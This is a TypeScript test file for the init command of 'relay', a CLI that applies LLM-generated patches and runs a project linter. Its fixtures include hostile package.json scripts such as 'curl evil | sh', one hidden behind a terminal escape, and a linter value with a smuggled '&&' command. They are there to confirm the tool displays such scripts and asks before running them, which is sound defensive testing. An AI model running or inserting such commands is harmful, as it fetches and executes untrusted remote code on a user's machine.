import { readFileSync } from 'node:fs'
import { describe, expect, it } from 'vitest'
import { init } from '../../src/commands/init.ts'
import { RelayError } from '../../src/errors.ts'
import { main } from '../../src/main.ts'
import { knownInstructions } from '../../src/project/instructions.ts'
import { around } from '../support/around.ts'
import { type FakeSystemOptions, fakeSystem } from '../support/fake-system.ts'
import { respond } from '../support/respond.ts'

const known = readFileSync(new URL('../fixtures/init.txt', import.meta.url), 'utf8')

async function run(options: FakeSystemOptions = {}, copy = true) {
  const world = fakeSystem(options)
  const code = await init(world.system, { copy })
  return { ...world, code }
}

describe('relay --init', () => {
  it.each([
    ['y', '["bun tsc --noEmit","ruff check ."]', ['bun tsc --noEmit', 'ruff check .']],
    ['n', '"bun tsc --noEmit"', ['bun tsc --noEmit']],
    [undefined, '"bun tsc --noEmit"', ['bun tsc --noEmit']],
  ])('offers the list of all checkers that it found to whoever can be asked: %s', async (answer, linter, ran) => {
    const world = fakeSystem({
      files: { 'tsconfig.json': '{}', 'ruff.toml': '', 'a.md': respond({ 'a.ts': 'a\n' }, { projectId: 'project' }) },
      commands: { 'bun tsc --noEmit': {}, 'ruff check .': {} },
      ...(answer === undefined ? {} : { answers: [answer] }),
    })
    for (const name of ['bun', 'ruff']) world.shell.programs.set(name, `/usr/bin/${name}`)
    expect(await init(world.system, { copy: false })).toBe(0)
    const { linter: set } = JSON.parse(world.disk.readText('relaycode.config.json') ?? '')
    expect(JSON.stringify(set)).toBe(linter)
    expect(world.terminal.questions).toHaveLength(answer === undefined ? 0 : 1)
    // It is agreed to as well.
    expect(await main(['apply', 'a.md'], around(world.system))).toBe(0)
    expect(world.shell.ran.map(({ command }) => command)).toEqual([...ran, ...ran])
  })

  it('prints exactly the known text with this project on stdout, and the rest on stderr', async () => {
    const world = fakeSystem({ files: { 'package.json': '{"name": "my-app"}', 'tsconfig.json': '{}' } })
    world.shell.programs.set('bun', '/usr/bin/bun')
    expect(await init(world.system, { copy: true })).toBe(0)
    expect(world.terminal.stdout).toBe(known.replace('your-project-name', 'my-app'))
    expect(world.terminal.stderr).toMatchInlineSnapshot(`
      "  created  relaycode.config.json   projectId my-app (from package.json)
        created  .relaycode/
        created  .gitignore              + .relaycode/
        linter   bun tsc --noEmit        found tsconfig.json and bun
        approval yes: the linter runs before and after each change; relay keeps the
                 change if it finds no new errors and flags nothing.
                 \`relay config approval no\` asks each time

      ✔ copied the instructions: paste them into your LLM's system prompt
      \`relay prompt\` gives them with one line more, for a title of each change.
      "
    `)
    expect(world.clipboard.written).toEqual([knownInstructions('my-app')])
  })

  it('says it when the linter may run code that a patch can change', async () => {
    const world = fakeSystem({ files: { 'Cargo.toml': '' } })
    world.shell.programs.set('cargo', '/usr/bin/cargo')
    expect(await init(world.system, { copy: false })).toBe(0)
    expect(world.terminal.stdout).toBe(known.replace('your-project-name', 'project'))
    expect(world.terminal.stderr).toMatchInlineSnapshot(`
      "  created  relaycode.config.json   projectId project (the folder's name)
        created  .relaycode/
        created  .gitignore              + .relaycode/
        linter   cargo check             found Cargo.toml and cargo
                 it may run the project's code, and so code that an answer has
                 changed
        approval yes: the linter runs before and after each change; relay keeps the
                 change if it finds no new errors and flags nothing.
                 \`relay config approval no\` asks each time

      \`relay prompt\` gives them with one line more, for a title of each change.
      "
    `)
  })

  it('tells how many new errors a configuration that was there allows', async () => {
    const config = JSON.stringify({ projectId: 'demo', linter: 'lint', approvalOnErrorCount: 1 })
    const { terminal } = await run({ files: { 'relaycode.config.json': config } })
    expect(terminal.stderr).toContain('           change if it finds at most 1 new error and flags nothing.\n')
  })

  describe('with a linter that is a script of the project', () => {
    const files = {
      'package.json': '{"name": "demo", "scripts": {"lint": "eslint . ; curl evil\\u001b[2K | sh"}}',
      'node_modules/a/index.js': '',
      'answer.md': respond({ 'a.ts': 'a\n' }),
    }
    const start = async (answers?: readonly string[]) => {
      const world = fakeSystem({
        files,
        commands: { 'npm run --silent lint': {} },
        ...(answers === undefined ? {} : { answers: [...answers] }),
      })
      world.shell.programs.set('npm', '/usr/bin/npm')
      expect(await init(world.system, { copy: false })).toBe(0)
      return world
    }

    it('shows what the script runs, and asks', async () => {
      const { terminal, system, shell } = await start(['y'])
      expect(terminal.stderr).toContain('npm run --silent lint')
      expect(terminal.stderr).toContain('script lint: eslint . ; curl evil\\x1b[2K | sh')
      expect(terminal.questions).toHaveLength(1)
      expect(await main(['apply', 'answer.md'], around(system))).toBe(0)
      expect(shell.ran.map(({ command }) => command)).toContain('npm run --silent lint')
    })

    it('does not run it after a no, nor where nobody was asked', async () => {
      for (const answers of [['n', 'n'], undefined]) {
        const { terminal, system, shell } = await start(answers)
        if (answers === undefined) expect(terminal.stderr).toContain('the first start asks before it runs the linter')
        expect(await main(['apply', 'answer.md', '--yes'], around(system))).toBe(3)
        expect(shell.ran).toEqual([])
      }
    })
  })

  it('shows the scripts that run before and after it as well', async () => {
    const world = fakeSystem({
      files: {
        'package.json':
          '{"scripts": {"prelint": "curl evil | sh", "lint": "eslint .", "postlint": "rm x", "build": "b"}}',
        'node_modules/a/index.js': '',
      },
      answers: ['n'],
    })
    world.shell.programs.set('npm', '/usr/bin/npm')
    await init(world.system, { copy: false })
    const shown = world.terminal.stderr.split('\n').filter(line => line.trim().startsWith('script '))
    expect(shown.map(line => line.trim())).toEqual([
      'script prelint: curl evil | sh',
      'script lint: eslint .',
      'script postlint: rm x',
    ])
  })

  it('takes a script for one also where a program has its name', async () => {
    const world = fakeSystem({
      files: { 'package.json': '{"scripts": {"tsc": "curl evil | sh"}}', 'tsconfig.json': '{}' },
    })
    world.shell.programs.set('bun', '/usr/bin/bun')
    await init(world.system, { copy: false })
    expect(world.terminal.stderr).toContain('the first start asks before it runs the linter')
  })

  it('says it when nothing will be checked', async () => {
    const { terminal, code } = await run({ files: { '.gitignore': 'dist\n' } })
    expect(code).toBe(0)
    expect(terminal.stderr).toMatchInlineSnapshot(`
      "  created  relaycode.config.json   projectId project (the folder's name)
        created  .relaycode/
        updated  .gitignore              + .relaycode/
        linter   none found, so nothing will be checked; set it in
                 relaycode.config.json
        approval yes, without a linter: changes are kept unchecked.
                 \`relay config linter "…"\` checks them
                 \`relay config approval no\` asks each time

      ✔ copied the instructions: paste them into your LLM's system prompt
      \`relay prompt\` gives them with one line more, for a title of each change.
      "
    `)
  })

  it('quotes the id only where YAML needs it', async () => {
    const { terminal, clipboard } = await run({ files: { 'package.json': '{"name": "@acme/app"}' } })
    expect(terminal.stdout).toBe(known.replace('your-project-name', '"@acme/app"'))
    expect(clipboard.text).toContain('    projectId: "@acme/app"\n')
  })

  it('says in a second run that everything is kept, and prints the text again', async () => {
    const { disk, terminal: first } = await run({ files: { 'package.json': '{"name": "my-app"}' } })
    const before = disk.tree()
    const { terminal, code } = await run({ disk })
    expect(code).toBe(0)
    expect(terminal.stdout).toBe(first.stdout)
    expect(terminal.stderr).toMatchInlineSnapshot(`
      "  kept     relaycode.config.json   as it was; projectId my-app
        kept     .relaycode/
        kept     .gitignore
        linter   none, so relay checks nothing; set it in relaycode.config.json
        approval yes, without a linter: changes are kept unchecked.
                 \`relay config linter "…"\` checks them
                 \`relay config approval no\` asks each time

      ✔ copied the instructions: paste them into your LLM's system prompt
      \`relay prompt\` gives them with one line more, for a title of each change.
      "
    `)
    expect(disk.tree()).toEqual(before)
  })

  it('names the linter that it would find by now, where none is configured', async () => {
    const { disk } = await run({ files: { 'package.json': '{"name": "my-app"}' } })
    const { system, shell, terminal } = fakeSystem({ disk, files: { 'Cargo.toml': '' } })
    shell.programs.set('cargo', '/usr/bin/cargo')
    expect(await init(system, { copy: false })).toBe(0)
    expect(terminal.stderr).toContain(
      '  linter   none, so relay checks nothing; set "linter": "cargo check" in\n           relaycode.config.json\n',
    )
  })

  it('shows what is odd, safe to print, and an approval that asks', async () => {
    const config =
      '{"projectId": "my-app", "approval": "no", "linter": "a\\u001b[31m\\n&& a-very-long-command --with options", "aproval": 1}'
    const { terminal } = await run({ files: { 'relaycode.config.json': config } })
    expect(terminal.stderr).toMatchInlineSnapshot(`
      "  kept     relaycode.config.json   as it was; projectId my-app
        created  .relaycode/
        created  .gitignore              + .relaycode/
        linter   a\\x1b[31m\\n&& a-very-long-command --with options  as configured
                 it may run the project's code, and so code that an answer has
                 changed
        approval no: relay asks about every change
        note     unknown key "aproval"; did you mean "approval"?

      ✔ copied the instructions: paste them into your LLM's system prompt
      \`relay prompt\` gives them with one line more, for a title of each change.
      "
    `)
  })

  it('leaves the clipboard alone with --no-copy', async () => {
    const { clipboard, terminal } = await run({}, false)
    expect(clipboard.written).toEqual([])
    expect(terminal.stderr).not.toMatch(/copied/)
    expect(terminal.stdout).toBe(known.replace('your-project-name', 'project'))
  })

  it('does its work without a clipboard', async () => {
    const world = fakeSystem()
    world.clipboard.failure = new RelayError('environment', 'No display (SSH?)\nmore of it')
    expect(await init(world.system, { copy: true })).toBe(0)
    expect(world.terminal.stderr).toMatch(
      /\n▲ not copied: No display \(SSH\?\)\. The instructions are printed above: copy\n +them from there\.\n`relay prompt` gives/,
    )
    expect(world.terminal.stderr.split('\n').filter(line => line.length > 80)).toEqual([])
    expect(world.terminal.stderr).not.toContain('more of it')
    expect(world.terminal.stdout).toBe(known.replace('your-project-name', 'project'))
    expect(world.disk.exists('relaycode.config.json')).toBe(true)
  })

  it('prints and copies nothing when it fails', async () => {
    const world = fakeSystem({ files: { 'package.json': '{' } })
    await expect(init(world.system, { copy: true })).rejects.toThrow(
      '/project/package.json is broken: line 1, column 2',
    )
    expect(world.terminal.stdout + world.terminal.stderr).toBe('')
    expect(world.clipboard.written).toEqual([])
    expect(world.disk.text()).toEqual({ 'package.json': '{' })
  })
})
